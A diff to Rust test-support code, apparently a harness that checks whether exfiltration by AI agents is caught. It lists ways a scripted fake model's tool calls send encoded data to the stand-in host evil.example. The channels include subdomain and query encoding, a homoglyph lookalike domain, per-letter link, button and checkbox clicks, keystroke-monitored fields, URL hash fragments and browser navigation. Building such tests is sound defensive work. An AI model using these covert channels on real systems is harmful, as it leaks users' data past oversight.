@@ -2,7 +2,8 @@
 
 use serde_json::json;
 
-use super::world::{Site, call};
+use super::site::Site;
+use super::world::call;
 use crate::support::fake_model::Reply;
 
 /// A way out.
@@ -35,6 +36,22 @@ pub enum Exit {
     Note,
     /// The address is kept as a file, and visited in a later conversation.
     File,
+    /// A form in the browser is filled and sent.
+    Form,
+    /// A field in the browser whose page hears each letter.
+    Typed,
+    /// Links that are clicked, a letter each.
+    Links,
+    /// Buttons whose page hears of each click, a letter each.
+    Buttons,
+    /// Boxes around a button that sends a form, a letter each.
+    Boxes,
+    /// The part of an address behind `#`, which the page reads.
+    Hash,
+    /// Addresses that are opened in the browser.
+    VisitPath,
+    VisitQuery,
+    VisitSubdomain,
 }
 
 /// What a model does in one turn, and what comes before it.
@@ -63,16 +80,19 @@ impl Exit {
     /// How a server or a reader sees a piece.
     pub fn token(self, mark: &str, piece: &str) -> String {
         match self {
-            Self::Subdomain | Self::BareName => format!("{piece}.{mark}.evil.example"),
+            Self::Subdomain | Self::BareName | Self::VisitSubdomain => {
+                format!("{piece}.{mark}.evil.example")
+            }
             _ => format!("{mark}-{piece}"),
         }
     }
 
     fn url(self, token: &str, site: &Site) -> String {
         match self {
-            Self::Subdomain | Self::BareName => site.at(token, "/"),
+            Self::Subdomain | Self::BareName | Self::VisitSubdomain => site.at(token, "/"),
             Self::Lookalike => site.at("s\u{430}id.example", &format!("/{token}")),
-            Self::Query => site.at("evil.example", &format!("/?q={token}")),
+            Self::Query | Self::VisitQuery => site.at("evil.example", &format!("/?q={token}")),
+            Self::Hash => site.said(&format!("/arena/hash#{token}")),
             Self::Dots => site.said(&format!("/{token}/../named")),
             _ => site.at("evil.example", &format!("/{token}")),
         }
@@ -98,6 +118,17 @@ impl Exit {
             }]
         };
         let one = |arguments| vec![step(vec![call("http_request", arguments)])];
+        let surf = |tool: &str, arguments| call(&format!("browser_{tool}"), arguments);
+        let fill = |selector: &str, token: &String| {
+            surf("fill", json!({ "selector": selector, "text": token }))
+        };
+        // A piece is a letter here.
+        let clicks = |what: &str| {
+            let letters = tokens.iter().filter_map(|token| token.chars().last());
+            let selectors = letters.map(|letter| format!("#{what}-{letter}"));
+            let clicks = selectors.map(|selector| surf("click", json!({ "selector": selector })));
+            vec![step(clicks.collect())]
+        };
         let token = &tokens[0];
         match self {
             Self::Path | Self::Query | Self::Subdomain | Self::Lookalike => {
@@ -120,6 +151,23 @@ impl Exit {
                     call("create_file", json!({ "path": path, "content": "x" })),
                     call("send_file", json!({ "path": path, "caption": caption })),
                 ])]
+            }
+            Self::Form => {
+                let send = surf("click", json!({ "selector": "#send" }));
+                vec![step(vec![fill("#word", token), send])]
+            }
+            Self::Typed => {
+                let typed = tokens.iter().map(|token| fill("#heard", token));
+                vec![step(typed.collect())]
+            }
+            Self::Links => clicks("link"),
+            Self::Buttons => clicks("button"),
+            Self::Boxes => clicks("box"),
+            Self::Hash | Self::VisitPath | Self::VisitQuery | Self::VisitSubdomain => {
+                let visits = urls
+                    .iter()
+                    .map(|url| surf("navigate", json!({ "url": url })));
+                vec![step(visits.collect())]
             }
             Self::Reminder => {
                 let plan =
